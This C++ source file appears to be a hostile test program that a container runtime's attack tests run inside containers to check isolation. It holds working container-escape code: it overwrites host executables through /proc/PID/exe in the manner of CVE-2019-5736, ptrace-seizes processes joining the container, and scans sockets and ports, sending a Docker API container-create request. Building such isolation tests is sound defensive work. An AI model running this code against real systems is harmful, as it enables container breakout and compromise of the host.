// What the attack tests put into containers. What it does is said by its first argument, or else by
// its name: a program that a daemon might start on its own, such as xz, leaves a mark.
//
//   overwrite       tries for ever to write into programs of other processes that are not the
//                   container's own, as CVE-2019-5736 did
//   trace           tries for ever to attach to processes that join the container, before they have
//                   become what they are to run
//   hold            a child holds standard output for a day, the parent ends
//   scan            connects to every unix socket and every port of its network and says which
//                   answered
//   PROGRAM         makes the file /pwned
//
// Linked statically, so that an image needs nothing else.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <initializer_list>

namespace {

// Calls `visit` with each process that is not this one.
template <class Visit>
void EachProcess(Visit visit) {
  DIR* const proc = opendir("/proc");
  if (proc == nullptr) return;
  while (const dirent* entry = readdir(proc)) {
    const int pid = atoi(entry->d_name);
    if (pid > 0 && pid != getpid()) visit(pid);
  }
  closedir(proc);
}

// Whether the file is one that the container has by itself: on the file system of its root.
bool IsOwn(const struct stat& file) {
  struct stat root = {};
  return stat("/", &root) == 0 && root.st_dev == file.st_dev;
}

// Whether the container has the file, which is open as `descriptor`, by the same name: as one that
// is mounted into it, such as the program of its first process.
bool IsMountedHere(int descriptor, const struct stat& file) {
  char link[64], path[4096];
  snprintf(link, sizeof link, "/proc/self/fd/%d", descriptor);
  const ssize_t length = readlink(link, path, sizeof path - 1);
  if (length <= 0) return false;
  path[length] = 0;
  struct stat here = {};
  return stat(path, &here) == 0 && here.st_dev == file.st_dev && here.st_ino == file.st_ino;
}

// A process that runs `file` keeps it from being written; it is tried until the process is gone.
void WriteInto(int file) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  for (int i = 0; i < 20000; ++i) {
    const int fd = open(path, O_WRONLY);
    if (fd < 0) continue;
    if (pwrite(fd, "#!/bin/pwned\n", 13, 0) == 13) puts("WROTE");
    fflush(stdout);
    close(fd);
    return;
  }
}

[[noreturn]] void Overwrite() {
  puts("ready");
  fflush(stdout);
  for (;;) {
    EachProcess([](int pid) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      const int file = open(path, O_PATH | O_CLOEXEC);
      if (file < 0) return;
      struct stat status = {};
      if (fstat(file, &status) == 0 && !IsOwn(status)) WriteInto(file);
      close(file);
    });
  }
}

[[noreturn]] void Trace() {
  puts("ready");
  fflush(stdout);
  for (;;) {
    EachProcess([](int pid) {
      if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) return;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      // Opened, because the process goes on, and a name that is read after its end says nothing.
      const int program = open(path, O_PATH | O_CLOEXEC);
      struct stat status = {};
      // After its exec it is a process of the container, which may trace its own.
      if (program >= 0 && fstat(program, &status) == 0 && !IsOwn(status) &&
          !IsMountedHere(program, status))
        puts("SEIZED");
      fflush(stdout);
      if (program >= 0) close(program);
      ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
      waitpid(pid, nullptr, __WALL);
      ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    });
  }
}

// Says whether something took the connection, and the first line of its answer to a request.
void Try(int type, const void* address, socklen_t size, const char* name) {
  const auto* const to = static_cast<const sockaddr*>(address);
  const int fd = socket(to->sa_family, type | SOCK_CLOEXEC, 0);
  if (fd < 0) return;
  char ours[sizeof(sockaddr_storage)] = {};
  socklen_t ours_size = sizeof ours;
  // A port that nobody has may be the one that the kernel chose for this very connection.
  if (connect(fd, to, size) == 0 &&
      (getsockname(fd, reinterpret_cast<sockaddr*>(ours), &ours_size) != 0 || ours_size != size ||
       memcmp(ours, to, size) != 0)) {
    const timeval limit = {2, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    constexpr char kRequest[] =
        "POST /v1.41/containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n"
        "Content-Length: 2\r\n\r\n{}";
    char answer[200] = {};
    if (type == SOCK_STREAM && send(fd, kRequest, sizeof kRequest - 1, MSG_NOSIGNAL) > 0 &&
        recv(fd, answer, sizeof answer - 1, 0) > 0)
      answer[strcspn(answer, "\r\n")] = '\0';
    printf("ANSWERED %s %s\n", name, answer);
  }
  close(fd);
}

// Of the network namespace that this process is in; another process may have made them.
void ScanUnixSockets() {
  FILE* const list = fopen("/proc/self/net/unix", "re");
  if (list == nullptr) return;
  char line[512], name[256];
  int seen = 0;
  while (fgets(line, sizeof line, list) != nullptr) {
    unsigned type = 0;
    name[0] = '\0';
    // Number, references, protocol, flags, type, state, inode, name.
    if (sscanf(line, "%*s %*s %*s %*s %x %*s %*s %255s", &type, name) < 1) continue;
    ++seen;
    const size_t length = strlen(name);
    sockaddr_un address = {};
    address.sun_family = AF_UNIX;
    if (length == 0 || length >= sizeof address.sun_path) continue;
    memcpy(address.sun_path, name, length);
    if (name[0] == '@') address.sun_path[0] = '\0';
    const size_t size = offsetof(sockaddr_un, sun_path) + length + (name[0] == '@' ? 0 : 1);
    Try(static_cast<int>(type), &address, static_cast<socklen_t>(size), name);
  }
  fclose(list);
  printf("%s\n", seen > 0 ? "sockets were seen" : "no socket was seen");
}

void ScanPorts() {
  char name[64];
  for (int port = 1; port < 65536; ++port) {
    sockaddr_in ip4 = {};
    ip4.sin_family = AF_INET;
    ip4.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ip4.sin_port = htons(static_cast<uint16_t>(port));
    snprintf(name, sizeof name, "127.0.0.1:%d", port);
    Try(SOCK_STREAM, &ip4, sizeof ip4, name);
    sockaddr_in6 ip6 = {};
    ip6.sin6_family = AF_INET6;
    ip6.sin6_addr = IN6ADDR_LOOPBACK_INIT;
    ip6.sin6_port = htons(static_cast<uint16_t>(port));
    snprintf(name, sizeof name, "[::1]:%d", port);
    Try(SOCK_STREAM, &ip6, sizeof ip6, name);
  }
  // What takes datagrams does not answer to a connection.
  for (const char* path : {"/proc/self/net/udp", "/proc/self/net/udp6"}) {
    FILE* const list = fopen(path, "re");
    char line[512];
    for (int i = 0; list != nullptr && fgets(line, sizeof line, list) != nullptr; ++i) {
      if (i > 0) printf("ANSWERED udp %s", line);
    }
    if (list != nullptr) fclose(list);
  }
}

}  // namespace

int main(int argc, char** argv) {
  const char* const name = strrchr(argv[0], '/') == nullptr ? argv[0] : strrchr(argv[0], '/') + 1;
  const char* const what = argc > 1 && strcmp(name, "hostile") == 0 ? argv[1] : "";
  if (strcmp(what, "overwrite") == 0) Overwrite();
  if (strcmp(what, "trace") == 0) Trace();
  if (strcmp(what, "scan") == 0) {
    ScanUnixSockets();
    ScanPorts();
    puts("scanned");
    return 0;
  }
  if (strcmp(what, "hold") == 0) {
    if (fork() == 0) sleep(86400);
    return 0;
  }
  const int fd = open("/pwned", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  if (fd >= 0) {
    dprintf(fd, "%s\n", name);
    close(fd);
  }
  return 0;
}
